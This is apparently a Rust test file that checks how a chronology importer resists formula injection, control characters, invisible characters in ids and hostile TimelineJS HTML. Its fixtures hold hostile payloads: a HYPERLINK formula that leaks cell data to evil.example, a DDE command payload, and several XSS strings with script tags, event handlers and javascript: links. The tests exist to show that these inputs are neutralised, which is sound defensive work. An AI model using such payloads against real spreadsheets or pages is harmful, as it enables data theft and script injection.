//! Hardening of the importers against hostile and clumsy files: formula cells, control
//! characters, ids that must survive a link, HTML where text is expected.

use super::*;
use crate::core::dataset::embedded;
use crate::core::dataset::export::{to_csv, to_json};
use crate::core::dataset::validate::validate;

fn ok(text: &str, name: &str) -> Imported {
    match import(text.as_bytes(), name, false) {
        Ok(i) => {
            assert!(validate(&i.chronology).is_empty());
            i
        }
        Err(f) => panic!("{name} refused: {:#?}", f.problems),
    }
}

/// A small chronology whose events have the given titles (and summaries, notes, actors).
fn with_texts(cells: &[&str]) -> Chronology {
    let mut data = embedded().unwrap();
    data.sort_events();
    data.events.truncate(cells.len());
    for (e, cell) in data.events.iter_mut().zip(cells) {
        e.title = (*cell).to_string();
        e.summary = (*cell).to_string();
        e.evidence = (*cell).to_string();
        e.note = Some((*cell).to_string());
        // List items are trimmed by the import; the apostrophe rule applies to the whole cell.
        e.actors = vec![format!("{}x", cell.trim())];
    }
    data
}

/// Spreadsheets run a cell as a formula when it starts with one of these (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

// ---- CSV formula injection ------------------------------------------------------------------

#[test]
fn no_csv_cell_of_the_export_starts_like_a_formula() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-5",
        "@SUM(A1:A2)",
        "\tx",
        "\r=1+1",
        "'=1+1",
        " =1+1",
    ];
    let mut data = with_texts(&hostile);
    data.events[0].id = "=1+1".into();
    data.events[1].id = "-5".into();
    data.events[2].id = "@x".into();
    data.events[0].start = crate::core::date::PartialDate::year(-500).unwrap();
    let csv = to_csv(&data);
    for row in csv::rows(&csv, b',') {
        for field in &row.fields {
            let first = field.trim_start_matches(' ').chars().next();
            assert!(
                !first.is_some_and(|c| FORMULA_STARTS.contains(&c)),
                "row {}: {field:?} starts like a formula",
                row.number
            );
        }
    }
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""));
    assert!(csv.contains(",'-0500,"), "{csv}");
}

#[test]
fn our_csv_import_undoes_exactly_the_exports_apostrophes() {
    let cells = [
        "=1+1", "-5", "@x", "+x", "\tx", "'", "'x", "''x", "'=1+1", "''-5", " =1+1", "' @x",
        "plain",
    ];
    let mut data = with_texts(&cells);
    for (i, e) in data.events.iter_mut().enumerate() {
        e.id = format!("{}{i}", cells[i].trim());
    }
    data.events[0].start = crate::core::date::PartialDate::year(-500).unwrap();
    data.events[0].end = Some(crate::core::date::PartialDate::year(-400).unwrap());
    data.sort_events();
    let back = ok(&to_csv(&data), "x.csv").chronology;
    for (a, b) in data.events.iter().zip(&back.events) {
        assert_eq!(a.id, b.id);
        assert_eq!((a.start, a.end), (b.start, b.end));
        assert_eq!(a.title, b.title);
        assert_eq!(a.summary, b.summary);
        assert_eq!(a.evidence, b.evidence);
        assert_eq!(a.note, b.note);
        assert_eq!(a.actors, b.actors);
    }
    assert_eq!(back.events.len(), data.events.len());
    // A date written without the apostrophe (an older export) reads the same.
    let old = "id,start,title\na,-0500,A\n";
    assert_eq!(
        ok(old, "x.csv").chronology.events[0].start.to_iso(),
        "-0500"
    );
    // Only our own format is un-escaped: a TimelineJS sheet keeps its apostrophes.
    let sheet = "Year,Headline\n1990,'=1+1\n";
    assert_eq!(ok(sheet, "x.csv").chronology.events[0].title, "'=1+1");
}

// ---- control characters ---------------------------------------------------------------------

/// Every text of the chronology, with where it is.
fn texts(c: &Chronology) -> Vec<(String, String)> {
    let mut out = vec![("title".to_string(), c.title.clone())];
    for e in &c.events {
        for (field, text) in [
            ("title", &e.title),
            ("summary", &e.summary),
            ("evidence", &e.evidence),
        ] {
            out.push((format!("{} {field}", e.id), text.clone()));
        }
        if let Some(n) = &e.note {
            out.push((format!("{} note", e.id), n.clone()));
        }
        for a in &e.actors {
            out.push((format!("{} actor", e.id), a.clone()));
        }
    }
    for d in &c.domains {
        out.push((format!("domain {}", d.id), d.label.clone()));
    }
    for p in &c.phases {
        out.push((format!("phase {}", p.id), p.label.clone()));
    }
    out
}

fn assert_no_controls(c: &Chronology) {
    for (place, text) in texts(c) {
        assert!(
            !text
                .chars()
                .any(|ch| ch.is_control() && ch != '\t' && ch != '\n'),
            "{place}: {text:?}"
        );
    }
}

const CONTROLS_JSON: &str = r#"{"title":"T\u0007","source":{"title":"S","author":"A"},
"domains":[{"id":"d","label":"D\u0000"}],
"events":[
 {"id":"x","start":"1994","title":"A\u0001B\u0001","summary":"s\u007f\u0085t\r\nu\rv","note":"\u001b[31mred","actors":["\u0002Abe"],"domains":["d"]},
 {"id":"y","start":"1995","title":"Fine\ttabs\nand lines","summary":""}
]}"#;

#[test]
fn control_characters_are_removed_from_every_text_at_import() {
    let i = ok(CONTROLS_JSON, "x.json");
    let c = &i.chronology;
    assert_no_controls(c);
    let x = &c.events[0];
    assert_eq!(x.title, "AB");
    assert_eq!(x.summary, "st\nu\nv");
    assert_eq!(x.note.as_deref(), Some("[31mred"));
    assert_eq!(x.actors, ["Abe"]);
    assert_eq!(c.events[1].title, "Fine\ttabs\nand lines");
    assert_eq!(c.title, "T");
    assert_eq!(c.domains[0].label, "D");
    let notices: Vec<String> = i.notices.iter().map(ToString::to_string).collect();
    assert_eq!(
        notices,
        [
            "title: 1 control character removed (U+0007)",
            "domain 1 (id 'd'), field label: 1 control character removed (U+0000)",
            "event 1 (id 'x'), field title: 2 control characters removed (U+0001)",
            "event 1 (id 'x'), field summary: 2 control characters removed (U+007F, U+0085)",
            "event 1 (id 'x'), field note: 1 control character removed (U+001B)",
            "event 1 (id 'x'), field actors: 1 control character removed (U+0002)",
        ]
    );

    let csv = "id,start,title,summary\nx,1994,\"A\u{1}B\",\"\u{7}\"\n";
    let i = ok(csv, "x.csv");
    assert_eq!(i.chronology.events[0].title, "AB");
    assert_eq!(i.chronology.events[0].summary, "");
    assert_eq!(
        i.notices[0].to_string(),
        "row 2, column title: 1 control character removed (U+0001)"
    );
    // A title of nothing but control characters is empty: the row is refused.
    let f = import(b"id,start,title\nx,1994,\x01\x02\n", "x.csv", false).unwrap_err();
    assert_eq!(f.problems[0].to_string(), "row 2: the title is empty");

    let timeline = r#"{"events":[{"start_date":{"year":1994},"text":{"headline":"A\u0001","text":"B\u0002"}}]}"#;
    let i = ok(timeline, "t.json");
    assert_eq!(i.chronology.events[0].title, "A");
    assert_eq!(i.chronology.events[0].summary, "B");
    assert_eq!(
        i.notices[1].to_string(),
        "event 1, field text.text: 1 control character removed (U+0002)"
    );
    // Messages show control characters as symbols, never as themselves.
    assert_eq!(quoted("a\u{1}\u{7f}"), "'a␁␡'");
}

// ---- ids -------------------------------------------------------------------------------------

fn problems(text: &str, name: &str) -> Vec<String> {
    match import(text.as_bytes(), name, false) {
        Ok(i) => panic!("{name} accepted: {:#?}", i.chronology.events),
        Err(f) => f.problems.iter().map(ToString::to_string).collect(),
    }
}

#[test]
fn ids_a_link_cannot_carry_are_refused_with_a_clear_message() {
    let long = "x".repeat(501);
    let json = format!(
        r#"{{"title":"T","source":{{"title":"S","author":"A"}},
"domains":[{{"id":"d\u200b","label":"D"}},{{"id":"ok","label":"OK"}}],
"events":[
 {{"id":"a\u0001","start":"1994","title":"A","summary":""}},
 {{"id":"{long}","start":"1994","title":"B","summary":""}},
 {{"id":" c","start":"1994","title":"C","summary":""}},
 {{"id":"d","start":"1994","title":"D","summary":"","domains":["ok","x\u202e"]}},
 {{"id":"event 1","start":"1994","title":"E","summary":"","domains":["ok"]}}
]}}"#
    );
    let all = problems(&json, "x.json");
    for expected in [
        "domain 1 (id 'd\u{200b}'), field id: the id contains an invisible character (U+200B)",
        "event 1 (id 'a␁'), field id: the id contains a control character (U+0001)",
        "event 2 (id 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…'), field id: the id is 501 characters long; at most 500 are allowed",
        "event 3 (id ' c'), field id: the id starts or ends with a space",
        "event 4 (id 'd'), field domains: the id 'x\u{202e}' contains an invisible character (U+202E)",
    ] {
        assert!(all.iter().any(|p| p == expected), "no {expected:?} in {all:#?}");
    }
    assert!(!all.iter().any(|p| p.contains("event 5")), "{all:#?}");

    let csv = "id,start,title,domains,phase,third_parties\na\u{feff},1994,A,,,\nb,1994,B,ok; x\u{200d}y,,\nc,1994,C,,p\u{1},\nd,1994,D,,,z\u{2066}\ne e,1994,E,,,\n";
    let all = problems(csv, "x.csv");
    for expected in [
        "row 2, column id: the id contains an invisible character (U+FEFF)",
        "row 3, column domains: the id 'x\u{200d}y' contains an invisible character (U+200D)",
        "row 4, column phase: the id 'p␁' contains a control character (U+0001)",
        "row 5, column third_parties: the id 'z\u{2066}' contains an invisible character (U+2066)",
    ] {
        assert!(
            all.iter().any(|p| p == expected),
            "no {expected:?} in {all:#?}"
        );
    }
    assert_eq!(all.len(), 4, "{all:#?}");
}

// ---- TimelineJS HTML -------------------------------------------------------------------------

#[test]
fn timeline_html_is_kept_for_display_and_a_title_from_it_is_its_text() {
    let json = r#"{"title": {"text": {"headline": "Japan <i>and</i> NATO"}},
"events": [
 {"start_date": {"year": 2007}, "text": {"headline": "<b>Abe</b> at the NAC",
  "text": "<p>Leaders met in <b>Brussels</b>. See <a href=\"https://www.nato.int\" onclick=\"evil()\">NATO</a>.</p><script>alert(1)</script><img src=x onerror=alert(2)><a href=\"javascript:alert(3)\">bad link</a>"}},
 {"start_date": {"year": 2008}, "text": {"headline": "", "text": "<p>Only <em>text</em> here &amp; there</p><script>alert(1)</script>"}}
]}"#;
    let i = ok(json, "t.json");
    let c = &i.chronology;
    // Headlines are HTML in TimelineJS, and titles plain text: their plain text is kept.
    assert_eq!(c.title, "Japan and NATO");
    assert_eq!(c.events[0].title, "Abe at the NAC");
    // The text is kept as written, and shown through the allow-list.
    let shown = crate::core::rich_text::RichText::parse(&c.events[0].summary);
    assert_eq!(
        shown.to_html(),
        "<p>Leaders met in <b>Brussels</b>. See <a href=\"https://www.nato.int\">NATO</a>.</p>bad link"
    );
    assert_eq!(
        shown.plain_text(),
        "Leaders met in Brussels. See NATO.\n\nbad link"
    );
    // A title taken from the text is the text's plain text, not its markup.
    assert_eq!(c.events[1].title, "Only text here & there");
    // The scripts, kept as written and never shown, are said: once, for both slides.
    let said: Vec<String> = i.notices.iter().map(ToString::to_string).collect();
    assert!(
        said.iter().any(|n| n
            == "field text.text: 2 slides' texts have an element the explorer never shows ('<script>', in event 1 \
                and event 2): the text is kept as written and shown without it (a script never \
                runs)"),
        "{said:?}"
    );
}

#[test]
fn an_element_whose_content_is_never_shown_is_found_as_its_tag_opens_it() {
    use crate::core::rich_text::hidden_element;
    assert_eq!(hidden_element("ok <SCRIPT src=x>"), Some("script"));
    assert_eq!(hidden_element("<p>a</p><iframe/>"), Some("iframe"));
    assert_eq!(hidden_element("<style>"), Some("style"));
    assert_eq!(hidden_element("<svg"), Some("svg"));
    // Not such an element: a longer name, an end tag alone, text.
    assert_eq!(hidden_element("<scripts> <b>x</b>"), None);
    assert_eq!(hidden_element("</script>"), None);
    assert_eq!(hidden_element("a < script"), None);
    assert_eq!(hidden_element(""), None);
}

/// The hostile file of the end-to-end tests: only its bad year is a problem; its `javascript:`
/// media link is left out of its event (said in the report, never made a link), its headlines'
/// markup is not kept.
#[test]
fn the_hostile_file_of_the_end_to_end_tests_imports_as_it_did() {
    let hostile = r#"{"title":{"text":{"headline":"<img src=x onerror=\"window.__pwned=true\">Hostile"}},
"events":[
 {"unique_id":"a","start_date":{"year":2001},"text":{"headline":"<script>window.__pwned=true</script>Headline","text":"<b onmouseover=\"window.__pwned=true\">bold</b>"},"group":"<i>group</i>"},
 {"unique_id":"b","start_date":{"year":2002},"text":{"headline":"Bad link"},"media":{"url":"javascript:window.__pwned=true"}},
 {"unique_id":"c","start_date":{"year":"20x3"},"text":{"headline":"Bad year"}}]}"#;
    let f = import(hostile.as_bytes(), "hostile.json", false).unwrap_err();
    let problems: Vec<String> = f.problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        problems,
        ["event 3 (id 'c'), field start_date.year: '20x3' is not a year (-500 for 501 BC)"]
    );
    assert!(f.can_skip);
    let i = import(hostile.as_bytes(), "hostile.json", true).unwrap();
    let c = &i.chronology;
    assert_eq!(c.title, "Hostile");
    let titles: Vec<&str> = c.events.iter().map(|e| e.title.as_str()).collect();
    assert_eq!(titles, ["Headline", "Bad link"]);
    assert_eq!(
        c.events[0].summary,
        "<b onmouseover=\"window.__pwned=true\">bold</b>"
    );
    assert_eq!(c.domains[0].label, "<i>group</i>");
    assert!(c.footnotes.is_empty() && c.events[1].footnotes.is_empty());
    assert!(!to_json(c).contains("javascript:"));
    let notices: Vec<String> = i.notices.iter().map(ToString::to_string).collect();
    assert_eq!(notices.len(), 3, "{notices:#?}");
    assert!(notices[0].starts_with("title, field text.headline: the headline '<img src=x onerror=\"window.__pwned=true\"…' was read as HTML"), "{notices:#?}");
    assert!(notices[1].starts_with("field text.headline: 1 headline was read as HTML, as TimelineJS shows it ('<script>window.__pwned=true</script>Head…', in event 1 (id 'a'))"), "{notices:#?}");
    assert_eq!(
        notices[2],
        "field media.url: 1 link that is not http(s) was left out ('javascript:window.__pwned=true', in event 2 (id 'b')): only http(s) links are kept, as the event's source"
    );
}

// ---- smaller --------------------------------------------------------------------------------

#[test]
fn an_html_page_is_named_as_such() {
    for page in [
        "<!DOCTYPE html><html><head><title>404 Not Found</title></head><body>Not found</body></html>",
        "\u{feff}  \n<!doctype HTML>\n<html lang=en>",
        "<html><body>x</body></html>",
        "\n\n<HTML>",
    ] {
        for name in ["data.csv", "data.json", "data"] {
            let all = problems(page, name);
            assert_eq!(
                all,
                ["file: this is an HTML page, not a chronology (a web page was read where a JSON or CSV file was expected: check the file or its address)"],
                "{page:?} as {name}"
            );
        }
    }
    // A sheet whose first cell merely mentions HTML is still a sheet.
    assert_eq!(
        ok("Headline,Year\n<html> tags,1990\n", "x.csv").format,
        Format::TimelineCsv
    );
}

#[test]
fn columns_a_csv_does_not_use_are_reported_once() {
    let mut header = String::from("id,start,title,Foo,Bar");
    let mut row = String::from("a,1990,A,1,2");
    for i in 0..100_000 {
        header.push_str(&format!(",c{i}"));
        row.push_str(",x");
    }
    let i = ok(&format!("{header}\n{row}\n"), "x.csv");
    let notices: Vec<String> = i.notices.iter().map(ToString::to_string).collect();
    assert_eq!(
        notices,
        ["row 1: 100,002 columns ignored: 'Foo', 'Bar', 'c0' …"]
    );
    // The TimelineJS template's own columns are known, even those the explorer does not use.
    let sheet =
        "Year,Month,Day,Headline,Media Thumbnail,Background,Type,Group,Extra\n1990,,,H,,,,,z\n";
    let notices: Vec<String> = ok(sheet, "x.csv")
        .notices
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(notices, ["row 1: 1 column ignored: 'Extra'"]);
    // A repeated column is ignored too; empty header cells are not columns.
    let notices: Vec<String> = ok("id,start,title,Title,,\na,1990,A,B,,\n", "x.csv")
        .notices
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(notices, ["row 1: 1 repeated column ignored: 'Title'"]);
}

#[test]
fn counts_in_messages_have_thousands_separators_and_the_right_number() {
    let mut text = String::from("id,start,title\n");
    for i in 0..1_500 {
        text.push_str(&format!("e{i},19x4,T\n"));
    }
    let f = import(text.as_bytes(), "x.csv", false).unwrap_err();
    assert_eq!(
        f.problems.last().map(ToString::to_string).as_deref(),
        Some("… and 500 more problems")
    );
    let f = import(b"id,start,title\na,1990\n", "x.csv", false).unwrap_err();
    assert_eq!(
        f.problems[0].to_string(),
        "row 2: has 2 fields, the header has 3"
    );
    let f = import(b"id,start,title\na,1990,A,B\n", "x.csv", false).unwrap_err();
    assert_eq!(
        f.problems[0].to_string(),
        "row 2: has 4 fields, the header has 3"
    );
    let f = import(
        b"id,start,title,footnotes,source_urls\na,1990,A,1,https://a.org ; https://b.org\n",
        "x.csv",
        false,
    )
    .unwrap_err();
    assert_eq!(
        f.problems[0].to_string(),
        "row 2, column source_urls: has 2 links for 1 footnote: give one link per footnote of the footnotes column, in its order (a place left empty between \" ; \" for a footnote without one), or a single link and no footnote"
    );
    assert_eq!(
        too_many_records(1_000_001).to_string(),
        "file: the file has 1,000,001 records; at most 1,000,000 can be imported"
    );
}

#[cfg(not(target_arch = "wasm32"))]
mod headlines {
    use crate::core::import::plain_title;
    use crate::core::rich_text::one_line;
    use proptest::prelude::*;

    proptest! {
        /// A headline's title is its plain text on one line, every kind of space (a no-break
        /// one too) one space between words, whether or not it looks like markup (the quick
        /// path for text without `<`, `&` or runs of white space agrees).
        #[test]
        fn a_headline_s_title_is_its_plain_text(headline in "[a-cA <>&;#x0-9/\t\n\r\u{c}\u{a0}é]{0,24}") {
            let (title, changed) = plain_title(&headline);
            let words: Vec<String> = one_line(headline.trim()).split_whitespace().map(String::from).collect();
            prop_assert_eq!(&title, &words.join(" "));
            prop_assert_eq!(changed, title != headline.trim());
        }
    }
}
